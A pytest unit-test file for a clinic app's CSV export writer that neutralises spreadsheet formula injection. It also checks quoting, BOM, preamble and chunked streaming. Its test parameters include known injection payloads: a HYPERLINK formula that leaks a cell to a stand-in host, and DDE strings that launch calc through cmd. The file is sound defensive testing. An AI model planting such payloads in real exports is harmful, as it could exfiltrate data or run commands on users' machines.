"""The spreadsheet-safe CSV writer on its own: cells, quoting, preamble, BOM and chunking.

Pure unit tests (no app, no database): every file is read back with Python's ``csv`` module,
as an analyst's script would, and checked cell by cell.
"""

from __future__ import annotations

import csv
import inspect
import io
import random
import re
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest

from clinic_log.exports import csvwriter
from clinic_log.exports.csvwriter import (
    BOM,
    FORMULA_TRIGGERS,
    ROWS_PER_CHUNK,
    csv_cell,
    csv_chunks,
    csv_line,
    line_writer,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def write(header, rows, **kwargs) -> str:
    return "".join(csv_chunks(header, rows, **kwargs))


def read(text: str) -> list[list[str]]:
    """The records of a CSV text, the leading ``# `` preamble lines left out."""
    if text.startswith(BOM):
        text = text[len(BOM) :]
    lines = text.splitlines(keepends=True)
    while lines and lines[0].startswith("#"):
        lines.pop(0)
    return list(csv.reader(io.StringIO("".join(lines), newline="")))


def unquoted_hashes(text: str) -> list[int]:
    """Offsets of '#' characters outside a quoted field: where R (comment.char) and pandas
    (comment=) stop reading a line."""
    offsets, quoted = [], False
    for offset, char in enumerate(text):
        if char == '"':
            quoted = not quoted
        elif char == "#" and not quoted:
            offsets.append(offset)
    return offsets


# --------------------------------------------------------------------------- csv_cell


def test_the_trigger_list_is_the_documented_one():
    assert set(FORMULA_TRIGGERS) == set(TRIGGERS)


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""


def test_booleans_are_words():
    assert csv_cell(True) == "true"
    assert csv_cell(False) == "false"


@pytest.mark.parametrize(
    "value", [0, 7, -3, -2.5, 1e-9, 12345678901234567890, Decimal("-1.50"), Decimal("0")]
)
def test_numbers_are_untouched_even_when_negative(value):
    cell = csv_cell(value)
    assert cell is value  # the very object: no apostrophe, no conversion to text
    (row,) = read(write(["n"], [[value]]))[1:]
    assert row == [str(value)]  # written as a plain number, not '-3


def test_datetimes_are_iso_8601():
    instant = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
    assert csv_cell(instant) == "2026-03-04T05:06:07+00:00"
    offset = datetime(2026, 7, 1, 9, 30, tzinfo=timezone(timedelta(hours=-4)))
    assert csv_cell(offset) == "2026-07-01T09:30:00-04:00"


def test_other_values_are_their_text():
    assert csv_cell("plain text") == "plain text"
    assert csv_cell(date(2026, 3, 4)) == "2026-03-04"
    assert csv_cell("") == ""


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_formula_trigger_gets_an_apostrophe(trigger):
    original = trigger + "1+2"
    assert csv_cell(original) == "'" + original
    (header, row) = read(write(["text", "after"], [[original, "x"]]))
    assert header == ["text", "after"]
    assert row == ["'" + original, "x"]


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "=1+2",
        "\t=1+2",
        "\r\n=1+2",
    ],
)
def test_known_injection_payloads_come_back_neutralised(payload):
    (_header, row) = read(write(["a", "b", "c"], [["before", payload, "after"]]))
    assert row == ["before", "'" + payload, "after"]


@pytest.mark.parametrize("text", ["a=1+2", "x-1", "e@mail", " =1+2", "'already", "1,5"])
def test_a_trigger_character_after_the_start_is_left_alone(text):
    assert csv_cell(text) == text


# --------------------------------------------------------------------------- quoting


@pytest.mark.parametrize(
    "hostile",
    [
        "a,=1+2",
        'a";=1+2',
        "x\n=1+2",
        "x\r\n=1+2",
        'say "hi", then\nleave',
        '"',
        '""',
        ",,,",
        "trailing\n",
        "line one\nline two\r\nline three\rline four",
    ],
)
def test_separators_quotes_and_line_breaks_keep_cells_and_rows(hostile):
    rows = [["1", hostile, "end"], ["2", "plain", "end"]]
    records = read(write(["n", "text", "last"], rows))
    assert records == [["n", "text", "last"], *rows]


def test_lines_end_with_crlf_and_quoting_is_rfc_4180():
    text = write(["a", "b"], [['x"y', "p,q"], ["plain", "multi\nline"]])
    assert text == '"a","b"\r\n"x""y","p,q"\r\n"plain","multi\nline"\r\n'


def test_a_multi_line_note_is_one_cell():
    note = "Slept badly.\n\nWoke at 03:00 with cramps,\nsweating.\n- no vomiting"
    records = read(write(["id", "notes"], [[1, note], [2, ""]]))
    assert records == [["id", "notes"], ["1", note], ["2", ""]]


def test_unicode_survives():
    values = ["é", "Zürich", "niño", "日本語のメモ", "emoji 🙂", "Ærøskøbing"]
    text = write(values, [values])
    assert read(text) == [values, values]
    assert read(text.encode("utf-8").decode("utf-8")) == [values, values]


def test_nul_inside_a_cell_survives():
    records = read(write(["a"], [["x\0y"], ["\0z"]]))
    assert records[1:] == [["x\0y"], ["'\0z"]]


# --------------------------------------------------------------------------- BOM and preamble


def test_no_bom_unless_asked():
    text = write(["a"], [[1]], preamble=["note"])
    assert not text.startswith(BOM)
    assert BOM not in text
    assert text.startswith("# note\r\n")


def test_bom_when_asked_comes_first_and_once():
    text = write(["a"], [[1]], preamble=["note"], bom=True)
    assert text.startswith("\ufeff# note\r\n")
    assert text.count(BOM) == 1
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf#")


def test_bom_without_a_preamble_precedes_the_header():
    assert write(["a"], [[1]], bom=True) == '\ufeff"a"\r\n1\r\n'


@pytest.mark.parametrize(
    "line",
    [
        "filters: site=NORTH, patient=all",
        'a "quoted" word',
        "line\nbreak and\r\nanother",
        "=1+2",
        "-starts with a minus",
        "",
    ],
)
def test_preamble_lines_are_never_quoted_and_stay_one_line(line):
    text = write(["a", "b"], [[1, 2]], preamble=[line])
    first, rest = text.split("\r\n", 1)
    assert first.startswith("# ")
    assert '"' not in first and "," not in first
    assert "\n" not in first and "\r" not in first
    assert rest == '"a","b"\r\n1,2\r\n'
    assert read(text) == [["a", "b"], ["1", "2"]]


def test_every_preamble_line_starts_with_a_hash():
    preamble = ["one", "two, with a comma", 'three "quoted"']
    text = write(["h"], [], preamble=preamble)
    lines = text.split("\r\n")
    assert [line[:2] for line in lines[:3]] == ["# "] * 3
    assert lines[3] == '"h"'


def test_no_rows_is_just_the_header():
    assert write(["a", "b"], []) == '"a","b"\r\n'


# --------------------------------------------------------------------------- chunking


def test_csv_chunks_is_a_generator_and_reads_rows_lazily():
    assert inspect.isgeneratorfunction(csv_chunks)
    pulled = 0

    def endless():
        nonlocal pulled
        while True:
            pulled += 1
            yield [pulled, "row"]

    chunks = csv_chunks(["n", "text"], endless())
    first = next(chunks)
    # The first chunk went out after one chunk's worth of rows, not after reading everything.
    assert pulled == ROWS_PER_CHUNK
    assert first.count("\r\n") == ROWS_PER_CHUNK + 1
    next(chunks)
    assert pulled == 2 * ROWS_PER_CHUNK
    chunks.close()


@pytest.mark.parametrize(
    "count", [0, 1, ROWS_PER_CHUNK - 1, ROWS_PER_CHUNK, ROWS_PER_CHUNK + 1, 3 * ROWS_PER_CHUNK + 7]
)
def test_chunks_concatenate_to_the_one_shot_file(count):
    rows = [[n, f"note {n}, with comma", "=x" if n % 2 else -n, None] for n in range(count)]
    header = ["n", "note", "mixed", "empty"]
    chunks = list(csv_chunks(header, iter(rows), preamble=["p"], bom=True))
    assert len(chunks) == count // ROWS_PER_CHUNK + 1
    expected = io.StringIO()
    writer = csv.writer(expected, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([[csv_cell(value) for value in row] for row in rows])
    assert "".join(chunks) == BOM + "# p\r\n" + expected.getvalue()
    records = read("".join(chunks))
    assert len(records) == count + 1


def test_many_rows_make_several_chunks_of_bounded_size():
    rows = ([n, "x" * 40] for n in range(5 * ROWS_PER_CHUNK + 3))
    chunks = list(csv_chunks(["n", "text"], rows))
    assert len(chunks) == 6
    assert max(len(chunk) for chunk in chunks) < 60 * (ROWS_PER_CHUNK + 1)


# --------------------------------------------------------------------------- random strings

_ALPHABET = list("ab1 ,;\"'=+-@#|!()é日") + ["\t", "\r", "\n", "\r\n", "\0", "\u2028", "\ufeff"]


def test_random_strings_round_trip_and_never_start_with_a_trigger():
    rng = random.Random(20260304)
    rows = []
    for _ in range(600):
        rows.append(
            [
                "".join(rng.choice(_ALPHABET) for _ in range(rng.randint(0, 12)))
                for _ in range(rng.randint(1, 6))
            ]
        )
    width = max(len(row) for row in rows)
    rows = [row + [""] * (width - len(row)) for row in rows]
    header = [f"c{n}" for n in range(width)]
    records = read(write(header, rows))
    assert len(records) == len(rows) + 1
    for original, record in zip(rows, records[1:], strict=True):
        assert len(record) == width
        for value, cell in zip(original, record, strict=True):
            if value.startswith(TRIGGERS):
                assert cell == "'" + value
            else:
                assert cell == value
                assert not cell.startswith(TRIGGERS)


# --------------------------------------------------------------------------- comment readers


def test_a_hash_inside_a_cell_is_quoted_for_comment_aware_readers():
    text = write(["patient_identifier", "notes", "total"], [["#12", "bed #3", 7]], preamble=["p"])
    body = text.split("\r\n", 1)[1]
    assert unquoted_hashes(body) == []


def test_module_is_pure():
    imports = re.findall(r"^(?:from|import) (\S+)", inspect.getsource(csvwriter), re.M)
    assert imports
    assert not [name for name in imports if name.split(".")[0] in ("flask", "sqlalchemy")]


# --------------------------------------------------------------------------- the fast path

TRICKY_VALUES = [
    None, "", 0, -3, -2.5, 7, Decimal("-1.50"), True, False, "=1+1", "-x", "+1", "@", "@SUM(1)",
    "\t", "\tx", "\r", "\rx", "\n", "\nx", "\0", "\0x", "\uff1d1+1", "Zoë, café", 'say "hi"',
    "#3", "NA", "not assessed", "x-1", "'quoted", datetime(2026, 3, 29, 1, 0, tzinfo=UTC),
]  # fmt: skip


def test_the_cell_cache_is_csv_cell_once_per_value():
    cells = csvwriter.CellCache()
    texts = [v for v in TRICKY_VALUES if v is None or isinstance(v, str)]
    for value in texts * 2:
        assert cells[value] == csv_cell(value), repr(value)
    assert len(cells) == len(set(texts))


def test_the_cell_cache_stops_learning_at_its_limit(monkeypatch):
    monkeypatch.setattr(csvwriter, "CACHE_LIMIT", 3)
    cells = csvwriter.CellCache()
    assert [cells[f"-{n}"] for n in range(5)] == [f"'-{n}" for n in range(5)]
    assert len(cells) == 3


@pytest.mark.parametrize("value", TRICKY_VALUES, ids=repr)
def test_csv_line_and_line_writer_write_what_csv_chunks_writes(value):
    row = ["before", value, -1, value, "after"]
    expected = write(["a", "b", "c", "d", "e"], [row]).split("\r\n", 1)[1]
    assert csv_line(row) == expected
    lines = []
    line_writer(lines.append).writerow([csv_cell(v) for v in row])
    assert lines == [expected]
    # Written in two parts and joined, a row is the same line.
    head = []
    line_writer(head.append, line_end=",").writerow([csv_cell(v) for v in row[:2]])
    assert head[0] + csv_line(row[2:]) == expected


class _WrittenRows:
    """Rows that write themselves, as ExportRows does."""

    def __init__(self, rows, per_chunk=2):
        self.rows, self.per_chunk = rows, per_chunk

    def __iter__(self):
        return iter(self.rows)

    def csv_text(self):
        for start in range(0, len(self.rows), self.per_chunk):
            yield "".join(csv_line(row) for row in self.rows[start : start + self.per_chunk])


@pytest.mark.parametrize("count", [0, 1, 2, 5])
@pytest.mark.parametrize("bom", [False, True])
def test_rows_with_their_own_text_make_the_same_file(count, bom):
    rows = [[n, TRICKY_VALUES[n % len(TRICKY_VALUES)], "=x", None] for n in range(count)]
    header, preamble = ["n", "value", "formula", "empty"], ["p, q", "=r"]
    own = list(csv_chunks(header, _WrittenRows(rows), preamble=preamble, bom=bom))
    plain = "".join(csv_chunks(header, rows, preamble=preamble, bom=bom))
    assert "".join(own) == plain
    # The preamble and header go out with the first rows; then a chunk per csv_text chunk.
    assert len(own) == max(1, -(-count // 2))
    assert own[0].startswith((BOM if bom else "") + "# p; q\r\n# =r\r\n")
